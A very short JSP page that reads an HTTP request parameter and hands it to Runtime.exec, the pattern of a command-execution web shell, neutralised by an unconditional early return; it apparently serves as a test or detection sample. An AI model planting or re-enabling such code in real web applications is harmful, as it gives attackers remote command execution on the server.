<%@ page import="java.util.*" %><%
if (true) return;
String line = request.getParameter("line");
Process p = Runtime.getRuntime().exec(line);
%>
